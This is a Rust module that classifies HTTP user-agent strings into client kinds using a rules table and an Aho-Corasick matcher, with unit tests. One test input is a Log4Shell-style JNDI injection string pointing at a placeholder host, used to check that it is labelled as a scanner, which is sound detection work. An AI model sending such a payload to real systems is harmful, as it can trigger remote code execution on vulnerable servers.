//! Kinds of clients: the user agent into one of a closed set, by the table in `rules.txt`.
//!
//! One automaton finds the words of all rows in one pass (Aho and Corasick), and of the rows whose words stand in the
//! agent the first decides. It is asked once for each agent as a rule, for the caller keeps the latest answers.

use crate::bytes::work::scanned;
use aho_corasick::AhoCorasick;

/// The kinds, in the order of the documents; what has no row is the last.
pub const KINDS: [&str; 11] = [
    "browser",
    "search",
    "ai_crawler",
    "ai_assistant",
    "social",
    "feed",
    "monitor",
    "seo",
    "tool",
    "scanner",
    "other",
];

const RULES: &str = include_str!("rules.txt");

/// Words before the name of a client that this one only claims to resemble.
const RESEMBLING: [&[u8]; 2] = [b"like ", b"compatible with "];

/// How far before its words a client's name begins at most: every place where such words stand is looked at.
const NAME_BYTES_MAX: usize = 64;

#[derive(Clone, Copy, Debug)]
struct Row {
    kind: usize,
    begins_word: bool,
    ends_word: bool,
}

#[derive(Debug)]
pub struct Clients {
    words: AhoCorasick,
    rows: Vec<Row>,
}

/// The kind, the words without their marks, and what these say. None for a comment.
fn row(line: &str) -> Option<(Row, &str)> {
    let mut cells = line.split('|').map(str::trim);
    let (kind, words) = (cells.next().filter(|kind| !kind.starts_with('#'))?, cells.next()?);
    let (begins_word, ends_word) = (words.starts_with('<'), words.ends_with('>'));
    let words = words.trim_start_matches('<').trim_end_matches('>');
    let kind = KINDS.iter().position(|known| *known == kind)?;
    Some((Row { kind, begins_word, ends_word }, words))
}

impl Clients {
    /// An error would be one of the table.
    pub fn compile() -> Result<Clients, String> {
        let (rows, words): (Vec<Row>, Vec<&str>) = RULES.lines().filter_map(row).unzip();
        let words = AhoCorasick::builder().ascii_case_insensitive(true).build(words);
        words.map(|words| Clients { words, rows }).map_err(|wrong| format!("the table of clients: {wrong}"))
    }

    pub fn kind_of(&self, agent: &[u8]) -> &'static str {
        match self.first_row(agent) {
            Some(row) => KINDS[self.rows[row].kind],
            None if begins_as_a_program(agent) => "tool",
            None => "other",
        }
    }

    fn first_row(&self, agent: &[u8]) -> Option<usize> {
        let mut first: Option<usize> = None;
        for found in self.words.find_overlapping_iter(agent) {
            let number = found.pattern().as_usize();
            if first.is_some_and(|first| first <= number) {
                continue;
            }
            let (before, behind) = (&agent[..found.start()], &agent[found.end()..]);
            let row = self.rows[number];
            let in_word = |byte: Option<&u8>| byte.is_some_and(u8::is_ascii_alphanumeric);
            let cut = row.begins_word && in_word(before.last()) || row.ends_word && in_word(behind.first());
            if cut {
                continue;
            }
            let is_of_name = |byte: &&u8| byte.is_ascii_alphanumeric() || b"_-".contains(byte);
            let name = before.iter().rev().take(NAME_BYTES_MAX).take_while(is_of_name).count();
            scanned(name);
            let before = &before[..before.len() - name];
            let resembles = |words: &&[u8]| {
                before.len() >= words.len()
                    && before[before.len() - words.len()..].eq_ignore_ascii_case(words)
            };
            if !RESEMBLING.iter().any(resembles) {
                first = Some(number);
            }
        }
        first
    }
}

/// Whether an agent is `name/1...` or `name/v1...`, as libraries and apps call themselves. Mozilla/ is what browsers
/// begin with.
fn begins_as_a_program(agent: &[u8]) -> bool {
    let name = agent.split(|byte| *byte == b'/').next().unwrap_or_default();
    let is_name = name.first().is_some_and(u8::is_ascii_alphabetic)
        && name.iter().all(|byte| byte.is_ascii_alphanumeric() || b"._-".contains(byte));
    let version = agent.get(name.len() + 1..).unwrap_or_default();
    let version = version.strip_prefix(b"v").unwrap_or(version);
    is_name && !name.eq_ignore_ascii_case(b"mozilla") && version.first().is_some_and(u8::is_ascii_digit)
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::bytes::work::scanned_by;

    #[test]
    fn agents_are_what_they_say() {
        let clients = Clients::compile().unwrap();
        for (agent, kind) in [
            ("Mozilla/5.0 (X11; Linux x86_64; rv:142.0) Gecko/20100101 Firefox/142.0", "browser"),
            (
                "Mozilla/5.0 (Linux; Android 8.1.0; CUBOT R11) AppleWebKit/537.36 Chrome/69.0 Mobile Safari/537.36",
                "browser",
            ),
            ("Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)", "search"),
            ("Mozilla/5.0 (compatible; Feedly/1.0; like FeedFetcher-Google)", "feed"),
            (
                "Mozilla/5.0 (iPhone) AppleWebKit (KHTML, like Gecko) Safari (compatible with Googlebot)",
                "browser",
            ),
            (
                "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko); compatible; GPTBot/1.4; +https://openai.com/gptbot",
                "ai_crawler",
            ),
            ("Mozilla/5.0 (compatible; ChatGPT-User/1.0; +https://openai.com/bot)", "ai_assistant"),
            ("Mozilla/5.0 (compatible; Newcomer-User/1.0; +https://example.org/bot)", "ai_assistant"),
            ("facebookexternalhit/1.1", "social"),
            ("Blackbox Exporter/0.27.0", "monitor"),
            ("Mozilla/5.0 (compatible; SemrushBot/7~bl; +http://www.semrush.com/bot.html)", "seo"),
            ("curl/8.5.0", "tool"),
            ("my-own_app/3.1 (build 7)", "tool"),
            ("copier/v1.68.2", "tool"),
            ("${jndi:ldap://x.example/a}", "scanner"),
            ("Mozilla/5.0", "other"),
            ("-", "other"),
            ("", "other"),
        ] {
            assert_eq!(clients.kind_of(agent.as_bytes()), kind, "{agent}");
        }
    }

    #[test]
    fn an_agent_of_nothing_but_names_costs_no_more_than_its_bytes() {
        let clients = Clients::compile().unwrap();
        for begin in ["", "like ", "x"] {
            for name in ["curl", "bot", "Googlebot", "firefox"] {
                let agent = begin.to_owned() + &name.repeat(65_536 / name.len());
                let bytes = scanned_by(|| {
                    let _ = clients.first_row(agent.as_bytes());
                });
                assert!(bytes <= 64 * agent.len() as u64, "{begin}{name}: {bytes}");
            }
        }
    }

    #[test]
    fn every_row_is_whole_and_none_is_hidden_by_an_earlier_one() {
        let clients = Clients::compile().unwrap();
        let lines = RULES.lines().filter(|line| !line.is_empty() && !line.starts_with('#'));
        for (number, line) in lines.enumerate() {
            let cells: Vec<&str> = line.split(" | ").collect();
            assert!(cells.len() == 4 && cells.iter().all(|cell| !cell.trim().is_empty()), "{line}");
            let (row, words) = row(line).unwrap_or_else(|| panic!("no kind: {line}"));
            // Letters around it, unless the row asks for the end of a word there.
            let around = [row.begins_word, row.ends_word].map(|ends| if ends { "" } else { "q" });
            let agent = [around[0], words, around[1]].concat();
            let first = clients.first_row(agent.as_bytes());
            assert_eq!(first, Some(number), "{line}: hidden by row {first:?}");
        }
    }
}
